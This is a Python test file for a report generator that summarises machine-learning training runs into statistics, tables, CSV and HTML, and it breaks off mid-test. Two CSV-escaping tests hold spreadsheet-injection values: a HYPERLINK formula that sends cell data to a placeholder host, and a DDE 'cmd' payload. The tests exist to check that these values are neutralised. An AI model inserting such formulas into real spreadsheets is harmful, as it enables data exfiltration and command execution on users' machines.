#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Tests of the report on handwritten runs. If Python has no matplotlib, the tests that need it are skipped and the exit
code is 77."""

import csv
import html.parser
import io
import json
import math
import os
import pathlib
import re
import shutil
import sys
import unittest

from handwritten_runs import ReportCase, edit_lines, make_not_finite, make_run, write_lines

import report
import report_csv
import report_paper
import report_runs
import report_statistics
import report_tables
import report_text

try:
    import matplotlib  # noqa: F401

    HAS_MATPLOTLIB = True
except ModuleNotFoundError:
    HAS_MATPLOTLIB = False


class StatisticsTest(unittest.TestCase):
    def test_quantiles_of_t_are_the_published_ones(self):
        # NIST/SEMATECH e-Handbook of Statistical Methods, 1.3.6.7.2.
        for freedom, at_95, at_975, at_99, at_999 in [
            (1, 6.314, 12.706, 31.821, 318.309),
            (2, 2.920, 4.303, 6.965, 22.327),
            (3, 2.353, 3.182, 4.541, 10.215),
            (4, 2.132, 2.776, 3.747, 7.173),
            (9, 1.833, 2.262, 2.821, 4.297),
            (30, 1.697, 2.042, 2.457, 3.385),
            (100, 1.660, 1.984, 2.364, 3.174),
        ]:
            for probability, value in [(0.95, at_95), (0.975, at_975), (0.99, at_99), (0.999, at_999)]:
                self.assertAlmostEqual(report_statistics.t_quantile(probability, freedom), value, delta=6e-4)

    def test_quantiles_of_t_in_closed_form(self):
        for p in (0.6, 0.9, 0.975, 0.9995):
            self.assertAlmostEqual(report_statistics.t_quantile(p, 1) / math.tan(math.pi * (p - 0.5)), 1, places=10)
            exact = (2 * p - 1) * math.sqrt(2 / (1 - (2 * p - 1) ** 2))
            self.assertAlmostEqual(report_statistics.t_quantile(p, 2) / exact, 1, places=10)
            self.assertEqual(report_statistics.t_quantile(1 - p, 2), -report_statistics.t_quantile(1 - (1 - p), 2))
        self.assertAlmostEqual(report_statistics.t_quantile(0.975, 1e7), 1.959964, places=5)  # as for the normal one
        self.assertAlmostEqual(report_statistics.t_quantile(0.5, 5), 0, places=12)

    def test_quantiles_refuse_what_has_none(self):
        for probability, freedom in [(0, 3), (1, 3), (0.9, 0)]:
            with self.assertRaises(ValueError):
                report_statistics.t_quantile(probability, freedom)

    def test_estimate(self):
        e = report_statistics.estimate([92.0, 94.0, 93.0, 95.0])
        self.assertEqual((e.n, e.mean), (4, 93.5))
        self.assertAlmostEqual(e.deviation, math.sqrt(5 / 3))
        self.assertAlmostEqual(e.high - e.mean, 3.182446 * math.sqrt(5 / 3) / 2, places=5)
        self.assertAlmostEqual(e.mean - e.low, e.high - e.mean)

    def test_one_value_has_no_interval(self):
        e = report_statistics.estimate([92.0])
        self.assertEqual((e.n, e.mean, e.deviation, e.low, e.high), (1, 92.0, None, None, None))

    def test_paired_difference_is_over_the_common_seeds(self):
        d = report_statistics.difference({1: 93.0, 2: 95.0, 3: 90.0}, {1: 92.0, 2: 93.0, 7: 50.0})
        self.assertTrue(d.paired)
        self.assertEqual((d.n, d.mean), (2, 1.5))  # of 1 and 2
        self.assertAlmostEqual(d.high - d.mean, 12.7062 * math.sqrt(0.5) / math.sqrt(2), places=4)

    def test_unpaired_difference_is_welchs(self):
        d = report_statistics.difference({1: 10.0, 2: 12.0, 3: 14.0}, {4: 5.0, 5: 6.0})
        self.assertFalse(d.paired)
        self.assertEqual((d.n, d.base_n, d.mean), (3, 2, 6.5))
        first, second = 4 / 3, 0.5 / 2
        freedom = (first + second) ** 2 / (first**2 / 2 + second**2 / 1)  # 2.633
        half = report_statistics.t_quantile(0.975, freedom) * math.sqrt(first + second)
        self.assertAlmostEqual(d.high - d.mean, half)
        self.assertAlmostEqual(half, 4.34, delta=0.03)  # with t = 3.45, between the values for 2 and 3 degrees

    def test_difference_of_single_values(self):
        d = report_statistics.difference({1: 93.0}, {1: 92.0, 2: 93.0})
        self.assertEqual((d.mean, d.low, d.high, d.paired), (0.5, None, None, False))

    def test_values_that_are_not_finite(self):
        self.assertTrue(math.isnan(report_statistics.mean([math.inf, -math.inf])))
        self.assertEqual(report_statistics.mean([math.inf, 1.0]), math.inf)
        for values in ([math.nan, 1.0], [math.inf, 1.0], [math.inf, -math.inf]):
            e = report_statistics.estimate(values)
            self.assertFalse(math.isfinite(e.mean))
            self.assertTrue(all(map(math.isnan, (e.deviation, e.low, e.high))), values)

    def test_equal_values_give_an_interval_without_width(self):
        self.assertEqual(report_statistics.difference({1: 2.0, 2: 2.0}, {3: 1.0, 4: 1.0}).low, 1.0)


class ReadingTest(ReportCase):
    def test_beginnings_are_no_results(self):
        self.original(0.9, 1)
        make_run(self.folder / "beginnings" / "one", 0.8, selection="none", seed=5)
        collection = self.collect()
        self.assertEqual(([run.seed for run in collection.completed], collection.beginnings), ([1], 1))

    def test_a_folder_that_is_named_twice_counts_once(self):
        path = self.original(0.9, 1)
        (self.folder / "link").symlink_to("cells")
        link = self.folder / "link"
        for folders in ([path, self.folder, path], [link, self.folder], [self.folder / "cells" / "..", link / path.name]):
            collection = report_runs.collect(folders)
            self.assertEqual((len(collection.completed), collection.repeated), (1, []), folders)

    def test_incomplete_runs_are_told(self):
        self.original(0.9, 1)
        (self.original(0.8, 2) / "summary.json").unlink()
        self.run_folder(0.7, seed=3, completed=False)
        begun = self.original(0.8, 4)
        (begun / "summary.json").unlink()
        (begun / "metrics.jsonl").unlink()
        torn = self.original(0.8, 5)
        (torn / "summary.json").unlink()
        (torn / "metrics.jsonl").write_bytes((torn / "metrics.jsonl").read_bytes()[:-9])
        collection = self.collect()
        self.assertEqual(len(collection.completed), 1)
        whys = [why for _, why in collection.incomplete]
        self.assertEqual([why[: why.index("epochs")] for why in whys], ["6 of 6 ", "6 of 6 ", "0 of 6 ", "5 of 6 "])
        self.assertIn("was stopped", whys[1])

    def test_an_older_runs_validation_is_not_taken_for_the_test(self):
        self.original(0.9, 1, validation=0.9)
        old = self.original(0.99, 2, validation=0.9)
        lines = [json.loads(line) for line in (old / "metrics.jsonl").read_text().splitlines()]
        write_lines(old / "metrics.jsonl", [{k: v for k, v in line.items() if "valid" not in k} for line in lines])
        collection = self.collect()
        self.assertEqual(len(collection.completed), 1)
        self.assertIn("instead of the test images", collection.incomplete[0][1])

    def test_the_same_run_twice_counts_once(self):
        self.original(0.9, 1)
        self.original(0.9, 1, threads=7)
        self.original(0.9, 1, threshold=2.5, measure="g-prime")  # these have no effect if nothing is selected
        self.original(0.91, 1, weight_decay=0.001)
        collection = self.collect()
        self.assertEqual((len(collection.completed), len(collection.repeated)), (2, 2))

    def test_the_kinds_of_the_first_release_are_those_of_the_page(self):
        page = (pathlib.Path(__file__).parents[2] / "tools" / "settings" / "README.md").read_text(encoding="utf-8")
        rows = re.findall(r"^\| `--([a-z-]+)` .*\| ([a-z]+) \| 0\.1\.0 \|", page, re.MULTILINE)
        self.assertEqual({name.replace("-", "_"): kind for name, kind in rows}, report_runs.FIRST_KINDS)

    def test_the_kind_of_a_setting_decides_whether_it_is_a_difference(self):
        for kind, count in (("speed", 1), ("output", 1), ("schedule", 1), ("measured", 1), ("training", 2), ("new", 2)):
            for value in (1, 2):
                run = self.run_folder(0.9, selection="none", invented=value, train_images=len(kind))
                config = json.loads((run / "config.json").read_text())
                config["kinds"] = report_runs.FIRST_KINDS | {"invented": kind}
                (run / "config.json").write_text(json.dumps(config))
            runs = [run for run in self.collect().completed if run.settings["train_images"] == len(kind)]
            self.assertEqual(len(runs), count, kind)
            shutil.rmtree(self.folder / "cells")

    def test_damaged_files_are_one_line_each(self):
        def text(name, content):
            return lambda path: (path / name).write_text(content)

        def edit(name, change):
            return lambda path: (path / name).write_text(change((path / name).read_text()))

        def replace(name, make):
            return lambda path: ((path / name).unlink(), make(path / name))

        def loop(path):
            path.symlink_to(path.name)

        for spoil, expected in [
            (lambda path: (path / "config.json").unlink(), "config.json: cannot be read"),
            (text("config.json", '{"settings": {'), "config.json: cannot be read"),
            (text("config.json", "{}"), "has no 'settings'"),
            (text("config.json", "[1]"), "expected an object"),
            (edit("config.json", lambda t: t.replace('"seed"', '"sed"')), "has no 'seed'"),
            (text("summary.json", ""), "summary.json: cannot be read"),
            (edit("summary.json", lambda t: t.replace("0.9", "0.8")), "is not that of the last line"),
            (edit("metrics.jsonl", lambda t: t.replace("{", "", 1)), "metrics.jsonl: line 1"),
            (edit("metrics.jsonl", lambda t: t.split("\n", 1)[1]), "expected the epochs 1 to 6"),
            (edit("metrics.jsonl", lambda t: t.replace('"test_accuracy"', '"x"', 1)), "line 1 has no 'test_accuracy'"),
            (edit("metrics.jsonl", lambda t: t.replace("0.1,", "null,", 1)), "expected a number, got null"),
            (edit("metrics.jsonl", lambda t: t.replace("0.1,", '"nan",', 1)), "learning_rate: expected a finite number"),
            (edit("layers.jsonl", lambda t: t.replace('"g_prime"', '"x"', 1)), "layers.jsonl: line 1 has no 'g_prime'"),
            (lambda path: (path / "layers.jsonl").unlink(), "layers.jsonl: cannot be read"),
            (text("config.json", '{"a":' * 200000), "config.json: cannot be read: its values are nested too deeply"),
            (text("metrics.jsonl", "[" * 200000 + "\n"), "line 1: its values are nested too deeply"),
            (text("metrics.jsonl", "[1]\n"), "line 1: expected an object, got a list"),
            (edit("metrics.jsonl", lambda t: t.replace('"epoch": 1,', '"epoch": null,')), "whole number, got null"),
            (edit("metrics.jsonl", lambda t: t.replace('"epoch": 1,', '"epoch": Infinity,')), "got Infinity"),
            (edit("metrics.jsonl", lambda t: t.replace("0.1,", "1" * 400 + ",", 1)), "expected a number, got 1111"),
            (edit("config.json", lambda t: t.replace('"resnet18"', "{}")), "network: expected a text, a number"),
            (edit("config.json", lambda t: t.replace('"resnet18"', "18")), "network: expected a text, got 18"),
            (edit("config.json", lambda t: t.replace('"seed": 1', '"seed": "1"')), "seed: expected a whole number"),
            (edit("config.json", lambda t: t.replace('"threshold": 1.0', '"threshold": NaN')), "threshold: expected"),
            (edit("layers.jsonl", lambda t: t.replace('"conv1"', "[]", 1)), "line 1: expected a text, got a list"),
            (replace("summary.json", loop), "summary.json: cannot be read: Too many levels"),  # not "incomplete"
            (replace("metrics.jsonl", loop), "metrics.jsonl: cannot be read: Too many levels"),
            (replace("metrics.jsonl", os.mkfifo), "metrics.jsonl: cannot be read: expected a regular file"),
            (replace("config.json", os.mkdir), "config.json: cannot be read: expected a regular file"),
            (text("config.json", " " * 2**24 + "{}"), "config.json: cannot be read: expected at most 16777216 bytes"),
        ]:
            path = self.amplified(0.9, 1, 1.0)
            spoil(path)
            damaged = report_runs.collect([path]).damaged
            self.assertEqual(len(damaged), 1, expected)
            self.assertIn(expected, damaged[0])
            self.assertIn(str(path), damaged[0])
            self.assertNotIn("\n", damaged[0])

    def test_columns(self):
        paths = [
            self.original(0.9, 1),
            self.run_folder(0.9, seed=2, analyzed=(), amplified=()),  # its strategy never amplifies
            self.run_folder(0.9, selection="random"),
            self.run_folder(0.9, measure="g-prime", case="2"),
        ]
        columns = [report_runs.read_run(path).column for path in paths]
        self.assertEqual(columns, ["original", "original", "random", "g-prime-2"])
        self.assertEqual(report_runs.read_run(paths[2]).choice, (0.5, "conv"))

    def test_numbers_that_json_has_not(self):
        one = {"schema": 1, "x": 0.5, "none": None, "n": "nan", "p": "inf", "m": "-inf"}
        two = {"schema": 2, "x": 0.5, "none": None, "n": None, "p": None, "m": None}
        two["not_finite"] = {"n": "nan", "p": "inf", "m": "-inf"}
        for record in (one, two):
            self.assertEqual(report_runs.number_in(record, "x"), 0.5)
            self.assertTrue(math.isnan(report_runs.number_in(record, "n")))
            self.assertEqual(report_runs.number_in(record, "p"), math.inf)
            self.assertEqual(report_runs.optional_number_in(record, "m"), -math.inf)
            self.assertIsNone(report_runs.optional_number_in(record, "none"))
            with self.assertRaisesRegex(ValueError, "none: expected a number, got null without a reason"):
                report_runs.number_in(record, "none")
            with self.assertRaises(KeyError):
                report_runs.optional_number_in(record, "missing")
        for record in (
            {"x": True},
            {"x": "many"},
            {"x": []},
            {"x": "nan", "schema": 2},
            {"x": None, "not_finite": []},
            {"x": None, "not_finite": {"x": 5}},
            {"x": None, "not_finite": {"x": ["nan"]}},
        ):
            with self.assertRaises(ValueError, msg=record):
                report_runs.optional_number_in(record, "x")

    def test_both_schemas_give_the_same_run(self):
        runs = []
        for schema in (1, 2):
            run = self.amplified(0.9, 1, 1.0, validation=0.9)
            for name in ("config.json", "metrics.jsonl", "layers.jsonl", "summary.json"):
                edit_lines(run / name, lambda record: record.update(schema=schema))
            make_not_finite(run, "metrics.jsonl", schema, "train_accuracy", "inf")
            make_not_finite(run, "layers.jsonl", schema, "g", "-inf")
            runs.append(report_runs.read_run(run))
        self.assertEqual(runs[0].epochs, runs[1].epochs)
        self.assertEqual(runs[0].layers, runs[1].layers)
        self.assertEqual({epoch["train_accuracy"] for epoch in runs[0].epochs}, {math.inf})
        self.assertEqual({layer["g"] for layer in runs[0].layers}, {-math.inf})

    def test_files_of_a_later_release_are_refused(self):
        for name in ("config.json", "metrics.jsonl", "layers.jsonl", "summary.json"):
            for schema, said in ((3, "has schema 3: this release reads only up to schema 2"), (0, "has schema 0")):
                run = self.amplified(0.9, 1, 1.0)
                edit_lines(run / name, lambda record: record.update(schema=schema))
                (damaged,) = report_runs.collect([run]).damaged
                self.assertIn(f"{run / name}: ", damaged)
                self.assertIn(said, damaged)


class TablesTest(ReportCase):
    def test_the_two_choices_differ(self):
        for seed in (1, 2):
            self.original(0.90, seed, validation=0.90)
            self.amplified(0.95, seed, 0.7, validation=0.91)  # best on the test set
            self.amplified(0.93, seed, 1.3, validation=0.94)  # best on the validation part
        (row,) = self.rows()
        biased, unbiased = report_tables.best_on_test(row, "g-1"), report_tables.best_by_validation(row, "g-1")
        self.assertEqual((biased.choice, unbiased.choice), (0.7, 1.3))
        self.assertAlmostEqual(biased.estimate.mean, 95)
        self.assertAlmostEqual(unbiased.estimate.mean, 93)
        self.assertAlmostEqual(unbiased.validation, 94)
        self.assertAlmostEqual(unbiased.difference.mean, 3)
        self.assertEqual(biased.choices, 2)
        self.assertEqual(report_tables.shown_choice(row, "g-1"), 1.3)

    def test_validation_is_the_last_epochs(self):
        self.original(0.9, 1, validation=0.5)  # 0.99 in the epochs before
        self.assertEqual(self.rows()[0].original[0].validation_accuracy, 50)

    def test_without_validation_only_the_biased_figure(self):
        self.original(0.90, 1)
        self.amplified(0.95, 1, 0.7)
        rows = self.rows()
        self.assertIsNone(report_tables.best_by_validation(rows[0], "g-1"))
        table = report_text.accuracy_table("cifar10", rows)
        self.assertIn(("resnet18", report_text.UNBIASED, [[report_text.NO_VALIDATION]]), table.rows)

    def test_of_equal_thresholds_the_lowest(self):
        for threshold in (1.5, 0.7, 1.1):  # the same values, but their order makes a plain sum smaller
            values = (0.9, 0.9011, 0.9117) if threshold != 0.7 else (0.9117, 0.9011, 0.9)
            for seed, value in enumerate(values, 1):
                self.amplified(value, seed, threshold, validation=0.9)
        (row,) = self.rows()
        self.assertEqual(report_tables.best_on_test(row, "g-1").choice, 0.7)
        self.assertEqual(report_tables.best_by_validation(row, "g-1").choice, 0.7)

    def test_missing_seeds(self):
        for seed in (1, 2, 3):
            self.original(0.90 + 0.01 * seed, seed)
        self.amplified(0.94, 2, 0.7)
        self.amplified(0.95, 2, 0.8)
        self.amplified(0.97, 3, 0.8)
        (row,) = self.rows()
        one, two = report_tables.every_choice(row, "g-1")
        self.assertEqual((one.estimate.n, one.estimate.low, one.difference.paired), (1, None, False))
        self.assertAlmostEqual(one.difference.mean, 94 - 92)
        self.assertEqual((two.estimate.n, two.difference.paired, two.difference.n), (2, True, 2))
        self.assertAlmostEqual(two.difference.mean, 96 - 92.5)
        self.assertEqual(report_tables.uneven(row), ["resnet18, G, case 1: fewer than 2 runs at 0.7 (1)."])

    def test_without_originals_no_difference(self):
        self.amplified(0.94, 1, 0.7)
        self.assertIsNone(report_tables.best_on_test(self.rows()[0], "g-1").difference)

    def test_what_differs_is_not_thrown_together(self):
        for decay in (0.0005, 0.001):
            self.original(0.9 + 10 * decay, 1, weight_decay=decay)
            self.amplified(0.95, 1, 1.0, weight_decay=decay)
        rows = self.rows()
        self.assertEqual([row.label for row in rows], [f"resnet18 (weight_decay {d})" for d in (0.0005, 0.001)])
        self.assertEqual([len(row.original) for row in rows], [1, 1])

    def test_ways_of_amplifying_share_their_originals(self):
        self.original(0.90, 1)
        self.run_folder(0.92, selection="random")
        for granularity in ("weight", "neuron"):
            self.amplified(0.95, 1, 1.0, granularity=granularity)
        rows = self.rows()
        self.assertEqual(
            [row.label for row in rows], ["resnet18 (granularity weight)", "resnet18 (granularity neuron)"]
        )
        self.assertEqual([list(row.columns) for row in rows], [["original", "random", "g-1"]] * 2)

    def test_datasets_and_networks_in_order(self):
        for network in ("resnet110", "vgg19", "resnet20"):
            self.original(0.9, 1, network=network)
        self.original(0.5, 1, dataset="cifar100")
        self.assertEqual([row.label for row in self.rows()], ["vgg19", "resnet20", "resnet110"])
        self.assertEqual([row.label for row in self.rows("cifar100")], ["resnet18"])

    def test_the_best_random_selection(self):
        self.run_folder(0.92, selection="random", random_fraction=0.25)
        self.run_folder(0.93, selection="random", random_fraction=0.5)
        cell = report_tables.best_on_test(self.rows()[0], "random")
        self.assertEqual((cell.choice, cell.choices), ((0.5, "conv"), 2))
        self.assertIn("50% of conv (of 2)", report_text.accuracy_lines(cell))

    def test_minutes(self):
        self.original(0.9, 1, seconds=60)
        self.original(0.9, 2, seconds=120)
        self.amplified(0.9, 1, 0.7, seconds=99)
        (row,) = self.rows()
        self.assertAlmostEqual(report_tables.minutes(row, "original").estimate.mean, 1.5)
        self.assertIsNone(report_tables.minutes(row, "original").ratio)
        self.assertAlmostEqual(report_tables.minutes(row, "g-1").ratio, 1.1)
        self.assertIsNone(report_tables.minutes(row, "random"))

    def test_text_of_a_cell(self):
        for seed, test in ((1, 0.93), (2, 0.95)):
            self.original(0.92, seed)
            self.amplified(test, seed, 0.7)
        table = report_text.accuracy_table("cifar10", self.rows())
        self.assertEqual(
            table.rows[0][2][2],
            [
                "94.00%",
                "± 1.41, n = 2",
                "95%: 81.29 to 106.71",
                "+2.00 (paired, n = 2)",
                "95%: −10.71 to +14.71",
                "threshold 0.7 (of 1)",
            ],
        )
        self.assertEqual(table.rows[0][2][1], ["–"])
        self.assertEqual(
            table.rows[2][1:],
            (
                "paper",
                [
                    ["92.39"],
                    ["94.57", "+2.18"],
                    ["93.90", "+1.51"],
                    ["93.76", "+1.37"],
                    ["94.49", "+2.10"],
                    ["94.10", "+1.71"],
                ],
            ),
        )
        self.assertIn("Table 3", " ".join(table.caption))

    def test_markdown_and_csv_say_the_same(self):
        for seed in (1, 2):
            self.original(0.92, seed, validation=0.91)
            self.amplified(0.94, seed, 0.7, validation=0.91)
            self.amplified(0.93, seed, 0.8, validation=0.95)
        rows_of = report_tables.make_rows(self.collect().completed)
        records = list(csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of))))
        rules = [record["rule"] for record in records if record["column"] == "g-1"]
        self.assertEqual(rules, ["best on test", "by validation", "each", "each", "all runs"])
        best, by_validation = [record for record in records if record["column"] == "g-1"][:2]
        self.assertAlmostEqual(float(best["mean"]), 94)
        self.assertAlmostEqual(float(by_validation["mean"]), 93)
        self.assertEqual((best["paper"], by_validation["paper"], best["paired"]), ("93.9", "", "True"))
        text = report_text.markdown(rows_of)
        widths = {line.count("|") for line in text.split("## ")[1].splitlines() if line.startswith("|")}
        self.assertEqual(widths, {9})
        self.assertIn("| resnet18 | best on test (biased) | 92.00%", text)

    def test_a_validation_that_is_no_number_is_not_chosen(self):
        for threshold in (0.7, 0.8, 0.9):
            run = self.amplified(0.94, 1, threshold, validation=0.95 if threshold < 0.9 else 0.91)
            if threshold < 0.9:
                make_not_finite(run, "metrics.jsonl", 2, "validation_accuracy", "nan")
        (row,) = self.rows()
        self.assertEqual(report_tables.best_by_validation(row, "g-1").choice, 0.9)

    def test_numbers_that_are_not_finite_have_a_reason_in_the_csv(self):
        make_not_finite(self.original(0.9, 1, validation=0.9), "metrics.jsonl", 2, "validation_accuracy", "nan")
        make_not_finite(self.original(0.9, 2, validation=0.9), "metrics.jsonl", 2, "seconds", "inf")
        rows_of = report_tables.make_rows(self.collect().completed)
        accuracy, *_, minutes = csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of)))
        self.assertEqual((accuracy["mean"], accuracy["validation_mean"]), ("90.0", ""))
        self.assertEqual(accuracy["not_finite"], "validation_mean=nan")
        self.assertEqual((minutes["mean"], minutes["low95"]), ("", ""))
        self.assertEqual(minutes["not_finite"], "mean=inf deviation=nan low95=nan high95=nan")
        text = report_text.markdown(rows_of)
        self.assertIn("| nan |", text)  # the mean validation accuracy
        self.assertIn("| inf min<br>± nan, n = 2 |", text)

    def test_names_are_escaped_in_markdown(self):
        self.original(0.9, 1, network="<b>|*x*\n# y\x1b[2J\ud800")
        text = report_text.markdown(report_tables.make_rows(self.collect().completed))
        name = r"\<b\>\|\*x\*\\n\# y\\x1b\[2J\\ud800"
        self.assertIn(f"| {name} | best on test (biased) | 90.00%", text)
        self.assertNotIn("\x1b", text)

    def test_a_spreadsheet_computes_no_name(self):
        formula = '=HYPERLINK("http://a.b?"&A1,"x")'
        for name in (formula, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\uff1d1", "=", "-", "-1_0"):
            self.assertEqual(report_csv.plain(name), "'" + name)
        for value in ("resnet18", "a=b", "", "50% of conv", "0.7", "-0.7", "+1e-05", "-.5", -0.5, None, True):
            self.assertEqual(report_csv.plain(value), value)

    def test_names_are_escaped_in_csv(self):
        self.original(0.9, 1, network="=1+1", dataset="@d")
        self.original(0.9, 1, network="resnet8", weights="=cmd|' /C calc'!A0")
        rows_of = report_tables.make_rows(self.collect().completed)
        records = list(csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of))))
        self.assertEqual({(r["dataset"], r["network"], r["row"]) for r in records if r["network"] != "resnet8"},
                         {("'@d", "'=1+1", "'=1+1")})
        for record in records:
            for value in record.values():
                self.assertFalse(value.startswith(("=", "+", "@")), record)
            self.assertEqual(record["threshold_or_choice"], "")

    def test_a_cell_is_computed_once(self):
        for seed in (1, 2):
            self.original(0.92, seed, validation=0.91)
            for threshold in (0.7, 0.8, 0.9):
                self.amplified(0.94, seed, threshold, validation=0.91)
        rows_of = report_tables.make_rows(self.collect().completed)
        computed = []
        make_cell = report_tables.make_cell
        report_tables.make_cell = lambda row, column, choice: computed.append(choice) or make_cell(row, column, choice)
        try:
            report_csv.comma_separated(rows_of)
            report_text.markdown(rows_of)
        finally:
            report_tables.make_cell = make_cell
        self.assertEqual(sorted(computed, key=str), [0.7, 0.8, 0.9, None])

    def test_the_papers_tables(self):
        for table in (report_paper.ACCURACY, report_paper.MINUTES):
            for dataset in table.values():
                self.assertEqual(set(dataset), {"vgg19", "resnet18", "resnet34", "resnet50", "resnet101"})
                self.assertTrue(all(len(row) == 6 for row in dataset.values()))
        self.assertEqual(report_paper.figure(report_paper.ACCURACY, "cifar100", "resnet101", "g-prime-2"), 77.63)
        self.assertIsNone(report_paper.figure(report_paper.MINUTES, "cifar10", "resnet18", "random"))
        self.assertIsNone(report_paper.figure(report_paper.ACCURACY, "synthetic", "resnet18", "g-1"))
        self.assertEqual(report_paper.COLUMNS, tuple(report_tables.COLUMNS))


class PageReader(html.parser.HTMLParser):
    """Collects a page's references and the texts of its images, and checks that tags are closed in order."""

    def __init__(self):
        super().__init__()
        self.sources, self.links, self.alts, self.ids, self.open, self.tags = [], [], [], [], [], set()

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        self.tags.add(tag)
        if tag not in ("meta", "br", "img"):
            self.open.append(tag)
        self.sources += [attributes[key] for key in ("src", "srcset", "data", "action") if key in attributes]
        self.links += [attributes["href"]] if "href" in attributes else []
        self.ids += [attributes["id"]] if "id" in attributes else []
        if tag == "img":
            self.alts.append(attributes.get("alt", ""))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, tag


class ProgramTest(ReportCase):
    def test_nothing_to_report(self):
        code, _, errors = self.call(self.folder)
        self.assertEqual(code, 1)
        self.assertIn("no completed run", errors)
        code, _, errors = self.call(self.folder / "nowhere")
        self.assertEqual((code, errors.count("\n")), (1, 1))
        self.assertIn("no such folder", errors)

    def test_wrong_usage(self):
        with self.assertRaises(SystemExit) as raised:
            self.call()
        self.assertEqual(raised.exception.code, 2)

    def test_without_matplotlib_a_line_says_what_to_install(self):
        self.original(0.9, 1)
        hidden = {
            name: sys.modules.pop(name)
            for name in list(sys.modules)
            if re.match("matplotlib|report_(drawing|.*figures)", name)
        }
        sys.modules["matplotlib"] = None
        try:
            code, _, errors = self.call(self.folder)
        finally:
            del sys.modules["matplotlib"]
            for name in [name for name in sys.modules if re.match("report_(drawing|.*figures)", name)]:
                del sys.modules[name]
            sys.modules.update(hidden)
        self.assertEqual((code, errors.count("\n")), (1, 1))
        self.assertIn("apt-get install python3-matplotlib", errors)
        self.assertFalse((self.folder / "report").exists())


@unittest.skipUnless(HAS_MATPLOTLIB, "needs matplotlib")
class FigureTest(unittest.TestCase):
    def test_the_measures_of_every_epoch_are_within_the_axes(self):
        import report_layer_figures

        def lines(value):
            return [dict(type="conv", g=value, g_prime=2 * value, noise_floor=0.1, selected=False)]

        epochs = {4: {"a": lines(0.05), "b": lines(0.06)}, 8: {"a": lines(0.3), "b": lines(0.4)}}
        figure, _ = report_layer_figures.measures_over_layers(epochs, "g-1")
        largest = [0.06, 0.4, 0.12, 0.8]  # G after each epoch, then G'
        for panel, value in zip(figure.axes, largest, strict=True):
            low, high = panel.get_ylim()
            self.assertEqual(low, 0)
            self.assertGreater(high, value, panel.get_title())

    def test_seeds_with_equal_measures_are_drawn(self):
        import report_layer_figures

        equal = [dict(type="conv", g=0.175, g_prime=0.175, noise_floor=0.1, selected=False)] * 3
        self.assertLess(report_statistics.mean([0.175] * 3), 0.175)  # rounded
        figure, _ = report_layer_figures.measures_over_layers({4: {"a": equal}}, "g-1")
        self.assertEqual(len(figure.axes), 2)


    def test_the_lowest_accuracy_is_that_of_the_numbers(self):
        import report_figures

        accuracies = [(math.nan, math.nan), (-math.inf, 0.5), (0.25, math.nan), (0.75, 0.5)]
        epochs = [{"train_accuracy": train, "test_accuracy": test} for train, test in accuracies]
        run = report_runs.Run(self.id(), {}, "", "", epochs, [])
        self.assertEqual(report_figures.lowest_worth_showing([run]), 25)


@unittest.skipUnless(HAS_MATPLOTLIB, "needs matplotlib")
class PageCase(ReportCase):
    FEW, MANY = (2, 4), (2, 3, 4, 5)  # analyzed epochs, which are drawn in other figures

    def sweep(self, validation=0.9):
        for seed in (1, 2):
            self.original(0.90 + 0.01 * seed, seed, validation=validation)
            self.run_folder(0.92, validation, selection="random", seed=seed)
            for measure, case, threshold in (("g", "1", 0.7), ("g", "1", 1.3), ("g-prime", "2", 1.0)):
                self.amplified(0.93 + 0.01 * seed, seed, threshold, validation=validation, measure=measure, case=case)

    def page(self):
        text = (self.folder / "report" / "report.html").read_text()
        reader = PageReader()
        reader.feed(text)
        self.assertEqual(reader.open, [])
        return text, reader

    def assert_says(self, text, expected):
        self.assertTrue(expected in text, f"the page does not say {expected!r}")  # without the whole page

    def expect_gaps(self, cases):
        for schema, reason, analyzed in cases:
            for seed in (1, 2):
                self.original(0.9, seed, validation=0.9)
                run = self.amplified(0.91, seed, 0.7, validation=0.9, analyzed=analyzed, amplified=(3, 5))
                for key in ("train_accuracy", "seconds", "validation_accuracy"):
                    make_not_finite(run, "metrics.jsonl", schema, key, reason)
                for key in ("g", "noise_floor") if seed == 1 else ("g", "g_prime"):
                    make_not_finite(run, "layers.jsonl", schema, key, reason)
            code, _, errors = self.call(self.folder)
            self.assertEqual((code, errors), (0, ""), (schema, reason, analyzed))
            self.assertEqual(len(self.page()[1].sources), 6 if analyzed is self.FEW else 5)
            shutil.rmtree(self.folder / "cells")
            shutil.rmtree(self.folder / "report")


class ReportTest(PageCase):
    def test_a_sweep(self):
        """One report is looked at in all these ways, since drawing takes seconds."""
        self.sweep()
        (self.original(0.9, 9, validation=0.9) / "summary.json").unlink()
        code, printed, errors = self.call(self.folder / "cells", "--out", self.folder / "report")
        self.assertEqual((code, errors), (0, ""))
        self.assertIn("runs: 10 completed; 1 incomplete, not counted\n", printed)
        self.expect_all_files(self.folder / "report")
        self.expect_a_page_that_needs_nothing_else()
        self.expect_a_page_that_says_what_was_run()
        self.expect_the_same_bytes_again(self.folder / "report")

    def expect_all_files(self, out):
        self.assertEqual({p.name for p in out.iterdir()}, {"report.html", "tables.md", "tables.csv", "figures"})
        names = {path.name for path in (out / "figures").iterdir()}
        figures = ["schedule-1", *(f"resnet18-{n}" for n in ("thresholds", "epochs", "measures"))]
        figures += [f"resnet18-selected-epoch-{epoch}" for epoch in (2, 4)]
        self.assertEqual(names, {f"cifar10-{name}.{kind}" for name in figures for kind in ("png", "svg")})
        for path in (out / "figures").iterdir():
            start = b"\x89PNG" if path.suffix == ".png" else b"<?xml"
            self.assertTrue(path.read_bytes().startswith(start) and path.stat().st_size > 5000, path.name)

    def expect_a_page_that_needs_nothing_else(self):
        text, reader = self.page()
        self.assertTrue(all(source.startswith("data:image/svg+xml;base64,") for source in reader.sources))
        self.assertEqual(len(reader.sources), 6)
        outside = [link for link in reader.links if not link.startswith("#")]
        self.assertEqual(outside, [report_paper.ADDRESS])
        self.assertTrue(all(link[1:] in reader.ids for link in reader.links if link.startswith("#")))
        self.assertEqual(len(reader.ids), len(set(reader.ids)))
        self.assertTrue(all(len(alt) > 40 for alt in reader.alts))
        self.assertFalse(reader.tags & {"script", "link", "iframe"})
        self.assertNotIn("@import", text)
        self.assertNotIn("url(", text)

    def expect_a_page_that_says_what_was_run(self):
        text = html.unescape(self.page()[0])
        self.assert_says(
            text,
